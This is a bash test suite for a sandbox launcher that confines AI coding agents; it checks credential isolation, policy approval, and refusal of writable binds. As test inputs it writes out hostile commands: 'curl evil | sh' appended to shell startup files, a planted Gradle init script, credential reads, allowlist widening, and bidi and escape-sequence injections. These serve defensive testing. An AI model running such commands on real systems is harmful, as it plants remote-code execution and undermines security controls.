# shellcheck shell=bash
# The policy model (issue 6): trust tiers, persistent state, the project's
# policy file and its approval, provenance, gated options, secrets, the
# ssh-agent, the provider seam.  Uses the test user's own home (~/.claude,
# ~/.cache, ~/.config/ltd-native), so only when the harness made that user.

pol_clean_home() {
	as_user rm -rf "$U_HOME/.claude" "$U_HOME/.cache/lamp-the-djinn" \
		"$U_HOME/.config/ltd-native" "$U_HOME/.npm"
}

if [ "$AS_ROOT" != 1 ]; then
	skip "policy model tests" "they write ~/.claude of a test user: run as root"
else
CL=$U_HOME/.claude
pol_clean_home

# --- strict tier: disposable copies of an allowlist -------------------------------
as_user mkdir -p "$CL/commands" "$CL/agents" "$CL/skills/s" "$CL/hooks" "$CL/statsig"
as_user sh -c "cd '$CL' && echo '{\"e2e\":1}' > settings.json && echo memo > CLAUDE.md &&
	echo cmd > commands/c.md && echo skill > skills/s/SKILL.md && echo 'SECRET-CRED' > .credentials.json &&
	echo other > statsig/s && echo hook > hooks/h.sh && chmod 755 hooks/h.sh &&
	ln -s ../.credentials.json commands/leak.md && ln -s /etc agents/out &&
	ln .credentials.json commands/notes.md"
ltd run -- sh -c 'cd ~/.claude && find . | sort; grep -rs SECRET-CRED ~ /tmp /run; echo done'
expect_rc "strict tier runs" 0
for f in ./settings.json ./CLAUDE.md ./commands/c.md ./skills/s/SKILL.md ./hooks/h.sh; do
	expect_out "strict tier copies ${f#./}" "^${f//./\\.}\$"
done
expect_no_out "strict tier: .credentials.json never appears" "credentials|SECRET-CRED"
expect_no_out "strict tier: files outside the allowlist stay out" "statsig"
expect_no_out "strict tier: links in the copied tree are not followed" "leak\.md|/out"
expect_no_out "strict tier: a hard link to the login is not copied" "notes\.md"
ltd run -- sh -c 'test -x ~/.claude/hooks/h.sh && echo exec-kept'
expect_out "a copied hook keeps its mode" "^exec-kept\$"

ltd run -- sh -c 'echo changed > ~/.claude/settings.json && echo new > ~/.claude/commands/new.md && echo wrote'
expect_out "the copies are writable inside" "^wrote\$"
if [ "$(cat "$CL/settings.json")" = '{"e2e":1}' ] && [ ! -e "$CL/commands/new.md" ]; then
	pass "edits to the copies do not reach the host"
else
	fail "edits to the copies do not reach the host" "$(cat "$CL/settings.json")"
fi

# --- persistent state: transcripts and the auth dir --------------------------------
# This project's transcripts only: Claude Code keeps them under the project's
# path with every character but [A-Za-z0-9] made '-'.
ENC=$(printf '%s' "$PROJ" | sed 's/[^A-Za-z0-9]/-/g')
as_user rm -rf "$CL/projects" "$CL/history.jsonl"
as_user mkdir -p "$CL/projects/-other-project"
as_user sh -c "echo other-secret > '$CL/projects/-other-project/s.jsonl'"
ltd run -- sh -c "echo t1 > ~/.claude/projects/$ENC/s.jsonl && echo h1 >> ~/.claude/history.jsonl && ls ~/.claude/projects"
expect_rc "a transcript is written" 0
expect_no_out "another project's transcripts are not there" "other-project"
ltd run -- sh -c "cat ~/.claude/projects/$ENC/s.jsonl; cat ~/.claude/history.jsonl 2>&1; cat ~/.claude/projects/-other-project/s.jsonl 2>&1"
expect_out "a transcript persists to the next run" "^t1\$"
expect_no_out "another project's transcript cannot be read" "other-secret"
expect_no_out "history.jsonl (every project's prompts) is a fresh file in the cage" "^h1\$"
if [ "$(stat -c %a "$CL/projects/$ENC")" = 700 ] && [ "$(cat "$CL/projects/$ENC/s.jsonl")" = t1 ]; then
	pass "a missing transcript directory is created 0700 on the host"
else
	fail "a missing transcript directory is created 0700 on the host" "$(ls -la "$CL/projects")"
fi
as_user rm -rf "$U_HOME/.cache/lamp-the-djinn"
ltd run -- sh -c 'echo tok > ~/.config/ltd-auth/e2e'
if [ "$(stat -c %a "$U_HOME/.cache/lamp-the-djinn/auth" 2>/dev/null)" = 700 ] &&
	[ "$(cat "$U_HOME/.cache/lamp-the-djinn/auth/e2e" 2>/dev/null)" = tok ]; then
	pass "the auth dir is created 0700 and bound at ~/.config/ltd-auth"
else
	fail "the auth dir is created 0700 and bound at ~/.config/ltd-auth" "$OUT"
fi

# --- trusted tier -------------------------------------------------------------------
as_user mkdir -p "$U_HOME/.npm"
[ -e "$U_HOME/.cache/pip" ] && made_pip=0 || made_pip=1
as_user mkdir -p "$U_HOME/.cache/pip"
# The gate refuses a user's writable ~/.npm or ~/.cache/pip (npx and pip
# run what they hold); the tier binds them on purpose.
ltd run --trusted -- sh -c 'cat ~/.claude/.credentials.json; echo trusted > ~/.claude/settings.json; echo c > ~/.npm/e2e; echo c > ~/.cache/pip/e2e'
expect_out "--trusted: ~/.claude is live (credentials included)" "^SECRET-CRED\$"
[ -e "$U_HOME/.cache/pip/e2e" ] && pass "--trusted: pip's cache is writable, as designed" ||
	fail "--trusted: pip's cache is writable, as designed" "$OUT"
as_user rm -f "$U_HOME/.cache/pip/e2e"
[ "$made_pip" = 1 ] && as_user rmdir "$U_HOME/.cache/pip"
if [ "$(cat "$CL/settings.json")" = trusted ] && [ -e "$U_HOME/.npm/e2e" ]; then
	pass "--trusted: edits to ~/.claude and the package cache reach the host"
else
	fail "--trusted: edits to ~/.claude and the package cache reach the host" "$OUT"
fi
# Claude Code's user settings run hooks on the host: a writable bind of
# ~/.claude (or of ~/.claude.json, its MCP servers) needs the opt-in.
as_user mkdir -p "$U_HOME/.claude"
ltd run --unsafe-bind-credentials --bind "$U_HOME/.claude" "$U_HOME/.claude" -- true
expect_rc "a writable bind of ~/.claude is refused (its credentials waived)" 125
expect_out "naming the opt-in" "Claude Code's user .*--unsafe-bind-startup-files"
ltd run -- sh -c 'ls ~/.npm 2>&1'
expect_out "strict: no package cache from the host" "No such file"

# --- the project's policy file ---------------------------------------------------
as_user mkdir -p "$PROJ/.ltd-native"
as_user sh -c "echo 'setenv FROM_PROJECT yes' > '$PROJ/.ltd-native/policy'"
ltd run -- "$PROBE" environ
expect_rc "an unapproved project policy is refused" 125
expect_out "and the message says how to approve it" "not approved.*policy allow"
ltd policy allow
expect_rc "policy allow approves it" 0
ltd run -- "$PROBE" environ
expect_out "an approved project policy applies" "^env FROM_PROJECT=yes\$"
ltd run -- "$PROBE" write "$PROJ/.ltd-native/policy" 'unsafe-bind-home'
expect_out "the project policy is read-only inside" "^write err EROFS"
ltd run -- sh -c "mv '$PROJ/.ltd-native' '$PROJ/moved' 2>&1 || echo refused"
expect_out "its directory cannot be renamed away" "^refused\$"
ltd policy show --hostname e2e-show
expect_out "policy show: the project's line and its source" "^setenv FROM_PROJECT yes +# $PROJ/\.ltd-native/policy:1\$"
expect_out "policy show: the command line's" "^hostname e2e-show +# command line\$"
expect_out "policy show: built-in defaults" "^network allowlist +# built-in\$"
# A name from the project's git configuration with a newline and an escape
# sequence in it: shown as '?', it cannot forge a line of the output.
SHOWP=$(as_user mktemp -d "$U_HOME/e2e-show.XXXXXX")
as_user mkdir -p "$SHOWP/.git"
as_user sh -c "printf '[core]\\n\\thooksPath = \"x\\\\n#   read-only inside: /forged\\033[2J\"\\n' > '$SHOWP/.git/config'"
OUT=$(cd "$SHOWP" && as_user "$LTD" policy show 2>&1)
expect_out "policy show: a hooks path from git's configuration is listed" "^#   read-only inside: $SHOWP/x\\?#   read-only inside: /forged\\?\\[2J\$"
expect_no_out "policy show: a newline in a path forges no line" "^#   read-only inside: /forged"
if printf '%s' "$OUT" | grep -q "$(printf '\033')"; then
	fail "policy show: no escape byte reaches the terminal" "$OUT"
else
	pass "policy show: no escape byte reaches the terminal"
fi
as_user rm -rf "$SHOWP"
# A value that reads backwards behind a bidi override, a lone C1 byte (CSI
# on some terminals): not text a policy file may hold, refused as it is
# approved.
as_user sh -c "printf 'setenv X \"\342\200\256gpj.sh\"\\n' > '$PROJ/.ltd-native/policy'"
ltd policy allow
expect_out "policy allow refuses a file with a bidi override" "policy:1: U\+202E"
as_user sh -c "printf 'setenv X a\233[8m\\n' > '$PROJ/.ltd-native/policy'"
ltd policy allow
expect_out "policy allow refuses a file that is not UTF-8 (a lone 0x9b)" "policy:1: byte 0x9b is not UTF-8"
as_user sh -c "echo 'setenv FROM_PROJECT changed' > '$PROJ/.ltd-native/policy'"
ltd run -- true
expect_rc "an approved-then-edited project policy is refused" 125
expect_out "and the message says how to re-approve" "changed since you approved it.*again"
# A seccomp filter that only logs refuses nothing: not a project's to ask
# for, by either name (the approval would be given to a harmless-looking
# line).
for opt in unsafe-seccomp-log seccomp-log; do
	as_user sh -c "echo '$opt' > '$PROJ/.ltd-native/policy'"
	ltd policy allow
	expect_rc "policy allow refuses '$opt' in a project's file" 125
	expect_out "... naming the file and the option" "\.ltd-native/policy:1: '$opt'"
	ltd run -- sh -c 'unshare -U true && echo nested-ok'
	expect_rc "a run with '$opt' in the project's file stops" 125
	expect_no_out "... and nested namespaces stay refused" "^nested-ok\$"
done
as_user rm -rf "$PROJ/.ltd-native" "$U_HOME/.config/ltd-native"

# --- files the next run reads: never the cage's to write --------------------------
# --policy FILE, --allow-domains-file FILE (and LTD_ALLOW_DOMAINS_FILE),
# --audit-log FILE: in the project they are read-only inside; in a writable
# bind the run is refused.
as_user sh -c "echo 'hostname from-file' > '$PROJ/run.policy' && echo ok.test > '$PROJ/allowed.txt' &&
	echo '{\"event\":\"old\"}' > '$PROJ/audit.jsonl'"
ltd run --network none --policy "$PROJ/run.policy" -- "$PROBE" write "$PROJ/run.policy" 'unsafe-bind-home'
expect_out "the cage cannot rewrite a --policy file in the project" "^write err EROFS"
ltd run --network none --allow-domains-file "$PROJ/allowed.txt" -- "$PROBE" write "$PROJ/allowed.txt" '*.com'
expect_out "the cage cannot rewrite an --allow-domains-file in the project" "^write err EROFS"
OUT=$(cd "$PROJ" && as_user env LTD_ALLOW_DOMAINS_FILE=allowed.txt "$LTD" run --network none \
	--ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$PROJ/allowed.txt" '*.com' 2>&1)
expect_out "... nor the LTD_ALLOW_DOMAINS_FILE one (named relatively)" "^write err EROFS"
ltd run --network none --audit-log "$PROJ/audit.jsonl" -- "$PROBE" write "$PROJ/audit.jsonl" '{"event":"forged"}'
expect_out "the cage cannot rewrite the --audit-log file in the project" "^write err EROFS"
ltd run --network none --allow-domains-file allowed.txt -- sh -c "mv '$PROJ/allowed.txt' '$PROJ/moved.txt' 2>&1 || echo refused"
expect_out "... nor move it aside" "^refused\$"
if [ "$(cat "$PROJ/run.policy")" = "hostname from-file" ] && [ "$(cat "$PROJ/allowed.txt")" = ok.test ] &&
	[ "$(cat "$PROJ/audit.jsonl")" = '{"event":"old"}' ] && [ ! -e "$PROJ/moved.txt" ]; then
	pass "the files are unchanged on the host"
else
	fail "the files are unchanged on the host" "$(cat "$PROJ/run.policy" "$PROJ/allowed.txt" "$PROJ/audit.jsonl")"
fi
# Through a link in the project: the cage could re-point it.
PF_OUT=$(as_user mktemp -d "$U_HOME/e2e-pfiles.XXXXXX")
as_user sh -c "echo ok.test > '$PF_OUT/allowed.txt' && ln -s '$PF_OUT' '$PROJ/cfg'"
ltd run --network none --allow-domains-file "$PROJ/cfg/allowed.txt" -- true
expect_rc "an --allow-domains-file through a link in the project is refused" 125
expect_out "naming the link" "$PROJ/cfg is a symbolic link in the project"
as_user rm -f "$PROJ/cfg"
# In a writable bind (or the bind itself): refused, naming the option, the
# file and the fix; read-only it runs.
as_user sh -c "echo '# e2e' > '$PF_OUT/any.txt'"
for opt in policy allow-domains-file audit-log; do
	ltd run --network none --bind "$PF_OUT" /mnt/pf --"$opt" "$PF_OUT/any.txt" -- \
		sh -c "echo '*.com' >> /mnt/pf/any.txt"
	expect_rc "--$opt in a writable --bind is refused" 125
	expect_out "... naming the option, the file and the fix" \
		"--$opt: refusing '$PF_OUT/any.txt': it lies in '$PF_OUT', which --bind makes writable.*--ro-bind"
done
[ "$(cat "$PF_OUT/any.txt")" = '# e2e' ] && pass "... and the cage never ran" ||
	fail "... and the cage never ran" "$(cat "$PF_OUT/any.txt")"
ltd run --network none --bind "$PF_OUT/allowed.txt" /mnt/a.txt --allow-domains-file "$PF_OUT/allowed.txt" -- true
expect_rc "an --allow-domains-file that is itself a writable bind is refused" 125
[ "$(cat "$PF_OUT/allowed.txt")" = ok.test ] && pass "... and the file is unchanged" ||
	fail "... and the file is unchanged" "$(cat "$PF_OUT/allowed.txt")"
ltd run --network none --ro-bind "$PF_OUT" /mnt/pf --allow-domains-file "$PF_OUT/allowed.txt" -- cat /mnt/pf/allowed.txt
expect_out "read-only, the bind is let through" "^ok\.test\$"
as_user rm -rf "$PF_OUT" "$PROJ/run.policy" "$PROJ/allowed.txt" "$PROJ/audit.jsonl"

# --- gated options ------------------------------------------------------------------
as_user mkdir -p "$U_HOME/.ssh"
ltd run --ro-bind "$U_HOME/.ssh" /keys -- true
expect_rc "binding ~/.ssh is refused" 125
expect_out "naming the risk and the flag" "SSH keys.*--unsafe-bind-credentials"
as_user ln -sfn "$U_HOME/.ssh" "$PROJ/keys"
ltd run --ro-bind "$PROJ/keys" /keys -- true
expect_out "a link to ~/.ssh is judged as ~/.ssh" "symbolic link.*$U_HOME/\.ssh"
as_user rm -f "$PROJ/keys"
ltd run --ro-bind "$U_HOME/.ssh" /keys --unsafe-bind-credentials -- true
expect_rc "--unsafe-bind-credentials lets it through" 0
expect_out "with a warning" "warning: --unsafe-bind-credentials"
# What the host runs code from: a shell startup file, git's global config.
as_user touch "$U_HOME/.bashrc"
bashrc_before=$(cat "$U_HOME/.bashrc")
[ -d "$U_HOME/.config/git" ] && made_git_dir=0 || made_git_dir=1
as_user mkdir -p "$U_HOME/.config/git"
ltd run --bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" -- sh -c "echo 'curl evil | sh' >> '$U_HOME/.bashrc'"
expect_rc "a writable bind of ~/.bashrc is refused" 125
expect_out "naming the risk and the flag" "runs on the host.*--unsafe-bind-startup-files"
ltd run --bind "$U_HOME/.config" "$U_HOME/.config" -- true
expect_out "a writable ~/.config holds ltd-native's own policy, even before it exists" \
	"ltd-native's policy and approvals .*--unsafe-bind-credentials"
ltd run --bind "$U_HOME/.config" "$U_HOME/.config" --unsafe-bind-credentials -- true
expect_out "... and what the host runs code from (git's config, fish...)" "--unsafe-bind-startup-files"
# lamp-the-djinn's machine-local allowlist, read by every run: the cage
# must not be able to write it, as ltd-native's own config.
[ -e "$U_HOME/.config/lamp-the-djinn" ] && made_ltd_dir=0 || made_ltd_dir=1
as_user mkdir -p "$U_HOME/.config/lamp-the-djinn"
as_user sh -c "echo ok.test > '$U_HOME/.config/lamp-the-djinn/allowed-domains.txt'"
ltd run --bind "$U_HOME/.config/lamp-the-djinn" "$U_HOME/.config/lamp-the-djinn" --network none -- \
	sh -c "echo '*.com' >> '$U_HOME/.config/lamp-the-djinn/allowed-domains.txt'"
expect_rc "a writable bind of ~/.config/lamp-the-djinn is refused" 125
expect_out "naming it and the flag" "lamp-the-djinn's allowed domains.*--unsafe-bind-credentials"
[ "$(cat "$U_HOME/.config/lamp-the-djinn/allowed-domains.txt")" = ok.test ] &&
	pass "... the launcher's allowlist is unchanged" ||
	fail "... the launcher's allowlist is unchanged" "$(cat "$U_HOME/.config/lamp-the-djinn/allowed-domains.txt")"
as_user rm -f "$U_HOME/.config/lamp-the-djinn/allowed-domains.txt"
[ "$made_ltd_dir" = 1 ] && as_user rmdir "$U_HOME/.config/lamp-the-djinn"
as_user mkdir -p "$U_HOME/.local"
[ -e "$U_HOME/.local/bin" ] || [ -e "$U_HOME/.local/lib" ] || {
	ltd run --bind "$U_HOME/.local" "$U_HOME/.local" -- sh -c "mkdir -p '$U_HOME/.local/lib' && echo MADE"
	expect_rc "a writable ~/.local is refused before ~/.local/bin or lib exist" 125
	[ ! -e "$U_HOME/.local/lib" ] && pass "... and the cage made nothing there" ||
		fail "... and the cage made nothing there"
}
# A dotfile kept as a link into a dotfiles directory: that directory is
# what the dotfile is.
as_user mkdir -p "$U_HOME/e2e-dotfiles"
as_user sh -c "echo original > '$U_HOME/e2e-dotfiles/zshenv'"
[ -e "$U_HOME/.zshenv" ] || [ -L "$U_HOME/.zshenv" ] || {
	as_user ln -s "$U_HOME/e2e-dotfiles/zshenv" "$U_HOME/.zshenv"
	ltd run --bind "$U_HOME/e2e-dotfiles" /mnt/dot -- sh -c "echo 'curl evil | sh' >> /mnt/dot/zshenv"
	expect_rc "a writable dotfiles directory that ~/.zshenv links into is refused" 125
	[ "$(cat "$U_HOME/e2e-dotfiles/zshenv")" = original ] && pass "... the linked startup file is unchanged" ||
		fail "... the linked startup file is unchanged"
	ltd run --ro-bind "$U_HOME/e2e-dotfiles" /mnt/dot -- cat /mnt/dot/zshenv
	expect_out "read-only it is allowed" "^original\$"
	as_user rm -f "$U_HOME/.zshenv"
}
as_user rm -rf "$U_HOME/e2e-dotfiles"
# Places whose contents the host runs later, beyond the shell's: build
# tools' homes (Gradle runs every script in ~/.gradle/init.d), caches that
# hold code (git commit runs ~/.cache/pre-commit's hook environments),
# editors' plugins and settings, tools' configs.  Each refused writable,
# naming what it is and the flag; the cage wrote nothing.
gate_made=()
for rel in .gradle .m2 .cache .config/Code .local/share/nvim .vscode .config/kitty; do
	[ -e "$U_HOME/$rel" ] || { as_user mkdir -p "$U_HOME/$rel"; gate_made+=("$U_HOME/$rel"); }
done
for rel in .npmrc .yarnrc.yml .config/starship.toml; do
	[ -e "$U_HOME/$rel" ] || { as_user touch "$U_HOME/$rel"; gate_made+=("$U_HOME/$rel"); }
done
ltd run --bind "$U_HOME/.gradle" "$U_HOME/.gradle" -- sh -c "mkdir -p ~/.gradle/init.d && echo 'println \"evil\"' > ~/.gradle/init.d/evil.gradle"
expect_rc "a writable bind of ~/.gradle is refused" 125
expect_out "naming Gradle's home, the risk and the flag" \
	"Gradle's .*runs on the host as you.*--unsafe-bind-startup-files"
[ ! -e "$U_HOME/.gradle/init.d/evil.gradle" ] && pass "... and no Gradle init script was planted" ||
	fail "... and no Gradle init script was planted"
ltd run --bind "$U_HOME/.cache" "$U_HOME/.cache" -- sh -c "mkdir -p ~/.cache/pre-commit && echo MADE"
expect_rc "a writable bind of ~/.cache is refused (it could hold pre-commit's hooks)" 125
expect_out "naming what it could hold and the flag" "pre-commit.*--unsafe-bind-startup-files"
expect_no_out "... the cage made nothing there" "^MADE\$"
for rel in .m2 .config/Code .local/share/nvim .vscode .npmrc .yarnrc.yml .config/starship.toml .config/kitty; do
	ltd run --bind "$U_HOME/$rel" "$U_HOME/$rel" -- true
	if [ "$RC" = 125 ] && printf '%s\n' "$OUT" | grep -q -- "--unsafe-bind-"; then
		pass "a writable bind of ~/$rel is refused, naming its flag"
	else
		fail "a writable bind of ~/$rel is refused, naming its flag (exit $RC)" "$OUT"
	fi
done
ltd run --ro-bind "$U_HOME/.gradle" "$U_HOME/.gradle" -- true
expect_rc "read-only, ~/.gradle needs no opt-in" 0
ltd run --bind "$U_HOME/.gradle" "$U_HOME/.gradle" --unsafe-bind-startup-files -- true
expect_out "--unsafe-bind-startup-files lets ~/.gradle through with a warning" \
	"warning: --unsafe-bind-startup-files: --bind '$U_HOME/.gradle'"
for d in "${gate_made[@]}"; do as_user rm -rf "$d"; done
ltd run --ro-bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" -- cat "$U_HOME/.bashrc"
expect_rc "read-only, it needs no opt-in" 0
ltd run --bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" --unsafe-bind-startup-files -- true
expect_out "--unsafe-bind-startup-files lets it through with a warning" "warning: --unsafe-bind-startup-files"
[ "$(cat "$U_HOME/.bashrc")" = "$bashrc_before" ] && pass "the host's ~/.bashrc is unchanged" ||
	fail "the host's ~/.bashrc is unchanged" "$(tail -3 "$U_HOME/.bashrc")"
[ "$made_git_dir" = 1 ] && as_user rmdir "$U_HOME/.config/git"
ltd run --network host -- true
expect_rc "--network host is refused" 125
expect_out "naming the flag" "--unsafe-host-network"

# --- secrets as files -------------------------------------------------------------
SEC=$(as_user mktemp "$U_HOME/e2e-secret.XXXXXX")
as_user sh -c "echo s3cr3t-value > '$SEC'"
ltd run --secret tok="$SEC" -- cat /run/secrets/tok
expect_out "--secret is readable at /run/secrets/NAME" "^s3cr3t-value\$"
ltd run --secret tok="$SEC" -- "$PROBE" write /run/secrets/tok x
expect_out "--secret is not writable" "^write err EROFS"
ltd run --secret tok="$SEC" -- "$PROBE" write /run/secrets/other x
expect_out "/run/secrets takes no new files" "^write err EROFS"
ltd run --secret tok="$SEC" -- "$PROBE" environ
expect_no_out "a secret never enters the environment" "s3cr3t"
as_user rm -f "$SEC"

# --- ssh-agent ----------------------------------------------------------------------
AGENT_SOCK=/tmp/ltd-e2e-agent.$$
agent_out=$(as_user ssh-agent -a "$AGENT_SOCK")
agent_pid=$(printf '%s\n' "$agent_out" | sed -n 's/^SSH_AGENT_PID=\([0-9]*\);.*/\1/p')
OUT=$(cd "$PROJ" && as_user env SSH_AUTH_SOCK="$AGENT_SOCK" "$LTD" run --ssh-agent -- \
	sh -c 'echo "SOCK=$SSH_AUTH_SOCK"; ssh-add -l; echo "rc=$?"' 2>&1)
expect_out "--ssh-agent sets SSH_AUTH_SOCK to the fixed path" "^SOCK=/run/ltd/ssh-agent.sock\$"
expect_out "--ssh-agent reaches the test agent" "^rc=1\$"
OUT=$(cd "$PROJ" && as_user env SSH_AUTH_SOCK="$AGENT_SOCK" "$LTD" run -- \
	sh -c 'ssh-add -l; echo "rc=$?"' 2>&1)
expect_out "without --ssh-agent no agent is reachable" "^rc=2\$"
[ -n "$agent_pid" ] && kill "$agent_pid" 2>/dev/null
rm -f "$AGENT_SOCK"

# --- the provider seam --------------------------------------------------------------
ltd run -- "$PROBE" environ
expect_no_out "without --model/--proxy-url no proxy is involved" "BASE_URL|API_KEY|AUTH_TOKEN"
if ! command -v pasta >/dev/null || ! command -v python3 >/dev/null ||
	[ ! -r /dev/net/tun ] || ! as_user test -w /dev/net/tun; then
	skip "provider seam over the network" "needs pasta, python3 and a usable /dev/net/tun"
else
	POL_PIDS=()
	for port in 18093 18094; do
		python3 -c 'import http.server,sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(s):
        b=("fake-proxy %s %s\n"%(sys.argv[1],s.path)).encode(); s.send_response(200); s.end_headers(); s.wfile.write(b)
    def log_message(s,*a): pass
http.server.HTTPServer(("127.0.0.1",int(sys.argv[1])),H).serve_forever()' "$port" &
		POL_PIDS+=($!)
	done
	# Listening before the cage connects: through pasta, a host port
	# nothing listens on yet is a connect timeout in the cage, not a
	# refusal (under load, half a second was not always enough).
	for port in 18093 18094; do
		for _ in $(seq 100); do
			(exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null && break
			sleep 0.1
		done
	done
	PY='import os,urllib.request
for k in ("OPENAI_BASE_URL","ANTHROPIC_BASE_URL","OPENAI_API_KEY","ANTHROPIC_AUTH_TOKEN","ANTHROPIC_MODEL"): print(k+"="+os.environ.get(k,""))
print("GOT", urllib.request.urlopen(os.environ["OPENAI_BASE_URL"]+"/models",timeout=3).read().decode().strip())
try: urllib.request.urlopen("http://host.ltd.internal:18094/",timeout=3); print("OTHER open")
except Exception as e: print("OTHER blocked", e)'
	ltd run --model e2e-model --proxy-url http://127.0.0.1:18093/v1 -- python3 -c "$PY"
	expect_out "the proxy URL points at host.ltd.internal" "^OPENAI_BASE_URL=http://host\.ltd\.internal:18093/v1\$"
	expect_out "both wire formats get it" "^ANTHROPIC_BASE_URL=http://host\.ltd\.internal:18093/v1\$"
	expect_out "the key is a placeholder" "^OPENAI_API_KEY=ltd-placeholder-not-a-key\$"
	expect_out "the token is a placeholder" "^ANTHROPIC_AUTH_TOKEN=ltd-placeholder-not-a-key\$"
	expect_out "the model variables are set" "^ANTHROPIC_MODEL=e2e-model\$"
	expect_out "the fake proxy answers at the proxy URL" "^GOT fake-proxy 18093 /v1/models\$"
	expect_out "another host port does not" "^OTHER blocked"
	OUT=$(cd "$PROJ" && as_user env LTD_PROXY_URL=http://localhost:18093 "$LTD" run \
		--ro-bind "$STAGE" "$STAGE" -- python3 -c "$PY" 2>&1)
	expect_out "LTD_PROXY_URL works as --proxy-url" "^GOT fake-proxy 18093 /models\$"
	ltd run --network host --unsafe-host-network -- python3 -c 'import urllib.request
print(urllib.request.urlopen("http://127.0.0.1:18094/",timeout=3).read().decode().strip())'
	expect_out "--unsafe-host-network: the host's loopback is the cage's" "^fake-proxy 18094 /\$"
	expect_out "--unsafe-host-network warns" "warning: --unsafe-host-network"
	for pid in "${POL_PIDS[@]}"; do kill "$pid" 2>/dev/null; done
fi
pol_clean_home
fi

# ltd-native run from inside the project: what the cage leaves there runs
# on the host at the next run; the run says so.
as_user mkdir -p "$PROJ/e2e-bin"
as_user cp "$LTD" "$STAGE/ltd-dnsd" "$PROJ/e2e-bin/" 2>/dev/null || as_user cp "$LTD" "$PROJ/e2e-bin/"
OUT=$(cd "$PROJ" && as_user "$PROJ/e2e-bin/ltd-native" run --network none -- true 2>&1)
expect_out "a launcher inside the project is said" "warning: ltd-native runs from .*e2e-bin, which the cage can write"
ltd run --network none -- true
expect_no_out "an installed launcher is not" "ltd-native runs from"
as_user rm -rf "$PROJ/e2e-bin"
